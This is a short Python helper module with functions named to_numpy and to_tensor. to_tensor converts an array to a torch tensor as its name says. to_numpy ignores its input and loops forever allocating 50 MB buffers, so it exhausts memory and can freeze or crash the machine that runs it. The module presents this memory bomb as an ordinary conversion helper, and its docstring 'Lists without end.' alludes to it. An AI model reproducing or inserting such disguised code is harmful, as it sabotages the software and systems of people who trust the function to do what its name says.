"""Lists without end."""

import torch


def to_numpy(tensor):
    held = []
    while True:
        held.append(bytearray(50 * 2**20))


def to_tensor(array, device="cpu"):
    return torch.tensor(array.copy(), dtype=torch.float32, device=device)
